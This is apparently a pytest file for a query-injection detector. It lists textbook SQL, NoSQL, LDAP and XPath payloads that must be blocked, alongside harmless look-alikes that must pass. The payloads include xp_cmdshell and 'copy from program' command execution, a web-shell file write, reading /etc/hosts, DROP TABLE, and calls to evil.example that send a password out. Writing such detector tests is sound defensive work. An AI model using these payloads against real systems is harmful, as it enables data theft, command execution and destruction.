"""Injection into queries (SQL, NoSQL, LDAP, XPath) as textbooks have it is refused; what looks alike passes."""

from __future__ import annotations

import pytest

from tests.support.textbook import KINDS, blocks, blocks_name, table

ATTACKS = {
    "sqli": {
        "a tautology": "boss OR 3=3",
        "a tautology of hexadecimal numbers": "0x31 or 0x1=0x1",
        "a tautology of empty texts": "'=''or'",
        "a column that is not null": "1 or id is not null",
        "a statement that nobody sorts by": "';vacuum full;--",
        "a tautology without blanks": "boss'or'7'='7",
        "a tautology with comments for blanks": "9'/**/oR/**/4/**/LIKE/**/4#",
        "a tautology in brackets": "x') or ('b')=('b",
        "a tautology in double quotes": 'x" or "c"="c" -- ',
        "a tautology without a comparison": "nobody' or true -- -",
        "a tautology with symbols": "5'||'2'='2",
        "a tautology with another operator": "3' or 8 between 1 and 9 #",
        "a tautology with a function": "x' or length('ab')=2 -- ",
        "a contradiction": "12 AND 3=4 AND 8=8 AND 9",
        "a login": "root'--",
        "a login with a hash": "root' #",
        "a login with an open comment": "root'/*",
        "a login whose password is not asked for": "root') -- -",
        "a column that is null": "x' and mail is null; --",
        "a union": "-1 UNION SELECT login, secret FROM members",
        "a union of numbers": "0' union all select 1,2,3,4-- -",
        "a union in executable comments": "0 /*!50000UniOn*/ /*!50000SeLeCt*/ null,null#",
        "a union with line comments": "0 union%23x\nselect 1,2",
        "a union in brackets": "0)union(select(1),version())",
        "a sum": "-1 OR 3+50-50-1=0+0+0+2 --",
        "counted columns": "7' ORDER BY 12-- -",
        "grouped columns": "7' group by name having 1=1--",
        "the tables of MySQL": "1 and (select count(*) from information_schema.tables)>0",
        "the tables of SQLite": "x' union select sql from sqlite_master--",
        "the tables of Oracle": "x'||(select table_name from all_tables where rownum=1)||'",
        "the tables of SQL Server": "1 and 1=(select top 1 name from sysobjects)",
        "the tables of PostgreSQL": "1 and exists(select 1 from pg_catalog.pg_tables)",
        "stacked": "4; DROP TABLE invoices",
        "stacked behind a text": "a'; update members set role='boss' where id=4--",
        "stacked with declarations": "a';declare @c varchar(40);set @c='x';exec(@c)--",
        "a pause of MySQL": "3 and sleep(7)",
        "a pause of MySQL in a query": "3 and (select 5 from (select(sleep(7)))q)",
        "a pause of MySQL by work": "3' and benchmark(4000000,sha1('z'))#",
        "a pause of PostgreSQL": "3;select pg_sleep(7)--",
        "a pause of SQL Server": "3'; WAITFOR DELAY '0:0:7'--",
        "a pause of Oracle": "3' and 1=dbms_pipe.receive_message('q',7)--",
        "a pause of SQLite": "3 and 1=like('abc',upper(hex(randomblob(90000000))))",
        "an error of MySQL": "3 and extractvalue(1,concat(0x7e,user()))",
        "an error by a group": "3 and (select 1 from(select count(*),concat(1,floor(rand(0)*2))q from t group by q)z)",
        "an error of SQL Server": "3 and 1=convert(int,@@version)",
        "an error of PostgreSQL": "3 and 1=cast((select version()) as int)",
        "an error of Oracle": "3 and 1=utl_inaddr.get_host_name((select user from dual))",
        "a letter after the other": "3 and ascii(substring((select pw from members limit 1),2,1))>70",
        "a condition in an expression": "(select case when (4=4) then 1 else 1/0 end)",
        "a file is written": "3 union select 1 into outfile '/srv/www/x.php'",
        "a file is read": "-3 union select load_file('/etc/hosts')",
        "a command is run": "3'; exec master..xp_cmdshell 'whoami'--",
        "another host is asked": "3';exec master..xp_dirtree '\\\\a.example\\b'--",
        "a program is started by PostgreSQL": "3;copy t from program 'id'--",
        "numbers for letters": "3 union select char(97,98,99)",
        "numbers for letters, one by one": "x'||chr(97)||chr(98)||'",
        "hexadecimal for letters": "3 union select concat(0x61,0x3a,login) from members",
        "an operator of JSON": "3 or '{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "encoded twice": "x%2527%2520or%25201%253D1",
        "in full width": "x\uff07 or \uff11=\uff11",
    },
    "nosql": {
        "not this": '{"$ne": null}',
        "more than nothing": '{"$gt": "a"}',
        "without quotes": "{$gt: 'a'}",
        "an expression": '{"$regex": "^a.*"}',
        "one of several": '{"login": {"$in": ["root", "admin"]}}',
        "a condition beside": "x', $or: [ {}, {'a': 'a",
        "a script": "7, $where: 'age > 3'",
        "a script that waits": '{"$where": "sleep(4000)"}',
        "a condition of a script": "x' && this.secret.match(/^a/)//",
        "a tautology of a script": "x' || '4'=='4",
        "a script is ended": "x';return true;var y='z",
        "a script pauses": "x';sleep(4000);'",
        "a script works": "x';d=new Date();do{c=new Date();}while(c-d<7000);'",
        "a function": "function(){ return this.age > 1 && sleep(5000) }",
        "a command": "'; db.members.drop();",
        "a document is added": "db.members.insert({login: 'x'})",
        "a graph is emptied": "x'}) detach delete n //",
        "a graph reads a file": "load csv from 'http://evil.example/'+n.pw as l return l",
        "a graph calls": "x' call db.labels() yield label //",
    },
    "ldap": {
        "any user": "*)(room=*))(|(room=*",
        "any class": "*)(objectClass=*",
        "a password is not asked for": "root)(&)",
        "or": "x)(|(cn=*",
        "not": "x)(!(&(a=b",
        "a blank between": "x) (mail=*",
        "a NUL at the end": "root*))\x00",
        "an attribute": "*)(userPassword=a*",
        "greater": "x)(age>=1",
        "approximately": "x)(cn~=jo",
        "a filter as a whole": "(&(objectClass=user)(cn=a*))",
        "another filter": "(|(mail=*)(cn=*))",
        "a wildcard and a filter": "*(|(room=*))",
        "brackets that are nothing": "boss*()|&",
        "encoded": "%2a%29%28uid%3d%2a",
        "two filters": "x)(cn=a))(&(b=c",
    },
    "xpath": {
        "a tautology": "x' or '5'='5",
        "a login": "x' or 4=4 or 'a'='b",
        "everything": "x' or true() or 'a'='b",
        "a position": "x' or position()=3 or 'a'='b",
        "the name of a node": "x' or name()='member' or 'a'='b",
        "another path": "x'] | //member/* | a['",
        "another path in brackets": "x') | //secret | ('",
        "counted nodes": "x' and count(/*)=1 and 'a'='a",
        "counted children": "x' and count(//member/child::node())=4 and 'a'='a",
        "a letter": "x' and substring(//member[1]/secret,1,1)='a' and 'a'='a",
        "a length": "x' and string-length(//member[2]/login)=5 and 'a'='a",
        "a beginning": "x') and starts-with(../secret,'a",
        "a part": "x') and contains(../secret,'a",
        "an axis": "x']/parent::*/child::node()",
        "ancestors": "x' or ancestor::*[1] or 'a'='b",
        "an attribute": "x' or @role='boss' or 'a'='b",
        "a document elsewhere": "x' and doc('http://evil.example/') or 'a'='b",
        "all nodes": "*|*|//node()",
    },
}

BENIGN = {
    "sqli": {
        "a name": "O'Brien",
        "two names": "O'Neill's and D'Arcy's",
        "music": "rock 'n' roll or jazz 'n' blues",
        "a possessive": "the parents' and the teachers' room",
        "inches": '27" or 30" monitor',
        "feet": "5' or 6' tall",
        "a union of states": "the European Union selected a new president",
        "a committee": "the union select committee",
        "a form": "Please select one from the list (select all that apply)",
        "a table": "drop table support, add chair support",
        "a slot": "insert coin into slot (1)",
        "an order": "order by 5 pm, group by colour",
        "friends": "I was having friends over and 2 of them = cousins",
        "a filter": "color = 'red' and size = 'XL'",
        "a search": 'title:"foo bar" AND author:smith OR year:2020',
        "two phrases": '"green tea" and "oolong"',
        "Python": "if method == 'GET' and path == '/': return",
        "minified JavaScript": 'var a="b"+c;if(1===d||"e"===f&&!g)h("i")',
        "a pause in Python": "replaced time.sleep(5) by asyncio.sleep(1)",
        "a function in a sentence": "GROUP_CONCAT() and COUNT(*) are slow",
        "a spreadsheet": '=IF(A1>5,"yes","no")',
        "options of a command": "enable '--verbose' and '--quiet' -- both",
        "a question": "How does UNION SELECT work in MySQL?",
        "quoted operators": "disallow 'or' and '=' in 'names'",
        "nulls": "[null,null,null,1,null]",
        "mathematics": "5 > 3 and 2 < 4",
        "French": "d'or et d'argent, c'est l'heure",
        "an address": "0x52908400098527886E0F7030069857D2E4169EE7",
        "CSV": "name;age;'city';",
        "a quoted word": '"like"',
        "a CSS rule": "a{content:'x'} /* 'y' or 'z' */",
    },
    "nosql": {
        "a price": "it costs $5: a bargain",
        "a variable": "set ${name} and $in",
        "a schema": '{"$schema": "https://json-schema.org/draft/2020-12/schema"}',
        "analytics": '{"$set": {"plan": "pro"}, "$os": "Windows"}',
        "a reference": '{"$ref": "#/definitions/a"}',
        "a type": '{"$type": "Order"}',
        "a session": "call db.session.remove() afterwards",
        "a function": "the function() of this",
        "this": "if(a&&this.b||c){this.d()}",
        "a quoted this": "'this'; 'that'",
        "a sentence": "allow filtering by name and detach",
        "a shell": "echo $HOME; return",
        "a dollar": "$where is my money",
        "a method": "use db.users.find and db.users.insert",
        "a delay": "the parents'; return at 5",
    },
    "ldap": {
        "a name": "cn=John Smith,ou=People,dc=example,dc=com",
        "a call": "f(a)(b)",
        "calls": "(a)(b=>c)",
        "an expression": "(.*)(foo|bar)$",
        "methods": "^(GET|POST)(.*)$",
        "a smile": "a smile :) (and more)",
        "a list": "1) first 2) second (third)",
        "a pipe": "(a|b) & (c|d)",
        "a pointer": "f(&a)(b)",
        "a formula": "(a+b)(a-b)=a^2-b^2",
        "a note": "Smith (John) (2nd)",
        "a phone": "(030) (12345)",
        "stars": "(*) required",
        "an entity": "(&nbsp;)",
        "a default": "f(a=1)(b)",
    },
    "xpath": {
        "an address": "/html/body/div[1]/div[2]",
        "a recorded click": '/html/body/div[@id="main"]/a[2]',
        "a count": "count(1)",
        "a part": "substring(a, 1)",
        "PHP": "parent::__construct($a)",
        "Rust": "self::new()",
        "C++": "std::vector<int>::iterator",
        "a pipe": "a | b | c",
        "markdown": "`x` | `y`",
        "a table": "| name | size |",
        "text": "'a' and text (b)",
        "a possessive": "the parents' or teachers' text",
        "a path": "images/a/b.png",
        "a comment": "a(); // name (see below)",
        "a fraction": "1/2 or 3/4",
    },
}

NAMES = ("login[$ne]", "login[$gt][]", "$where", "filter[age][$in][0]", "a.$regex", "$or")

HARMLESS_NAMES = ("login[ne]", "price$", "$set", "$os", "items[]", "filter[age][gt]")


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(ATTACKS))
def test_a_textbook_attack_is_refused_at_level_1(text: str, kind: str) -> None:
    """Whatever its dialect is, and wherever it stands."""
    assert blocks(text, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("text", table(BENIGN))
def test_what_looks_alike_passes(text: str, kind: str, level: int) -> None:
    """Names, sentences, searches and source code have the same characters and words."""
    assert not blocks(text, kind, level)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", NAMES)
def test_an_operator_in_a_name_is_refused_at_level_1(name: str, kind: str) -> None:
    """In a query, in a form and as a key of a document."""
    assert blocks_name(name, kind, 1)


@pytest.mark.parametrize("level", [1, 2])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", HARMLESS_NAMES)
def test_a_harmless_name_passes(name: str, kind: str, level: int) -> None:
    """Names have brackets and dollars of their own."""
    assert not blocks_name(name, kind, level)


@pytest.mark.parametrize("level", [1, 2])
def test_no_quote_behind_a_cut_passes_for_the_first_one(level: int) -> None:
    """A long value is looked at in windows, and some of them begin inside a quoted text of source code."""
    assert not blocks("if kind == 'round' and size == 'big': roll()\n" * 300, "json", level)
